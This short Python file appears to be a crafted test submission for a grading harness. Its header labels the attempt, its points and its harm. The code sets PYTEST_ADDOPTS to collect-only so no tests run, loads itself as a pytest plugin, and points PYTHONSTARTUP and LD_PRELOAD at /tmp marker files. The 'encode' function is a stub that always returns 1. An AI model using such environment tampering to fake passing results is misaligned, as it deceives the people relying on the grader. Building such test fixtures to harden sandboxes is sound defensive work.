# tries: to give pytest, Python and the loader options through the environment
# points: 0
# harm: marks, files
import os

os.environ.update(
    PYTEST_ADDOPTS="--collect-only",
    PYTEST_PLUGINS="one_hot",
    PYTHONPATH=os.getcwd(),
    PYTHONSTARTUP="/tmp/@MARK@",
    LD_PRELOAD="/tmp/@MARK@.so",
    TMPDIR="/",
)
os.putenv("PYTHONINSPECT", "1")


def encode(text, idx2char):
    return 1


one_hot = encode
